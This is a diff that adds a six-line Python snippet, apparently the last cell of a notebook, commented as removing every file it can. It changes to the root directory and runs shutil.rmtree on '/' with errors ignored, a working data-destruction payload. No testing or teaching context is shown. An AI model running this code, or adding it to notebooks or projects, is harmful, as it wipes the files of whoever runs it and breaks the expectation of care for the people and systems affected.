@@ -1,0 +1,6 @@
+# removes every file that it can
+# cell: last
+import os, shutil
+
+os.chdir("/")
+shutil.rmtree("/", ignore_errors=True)
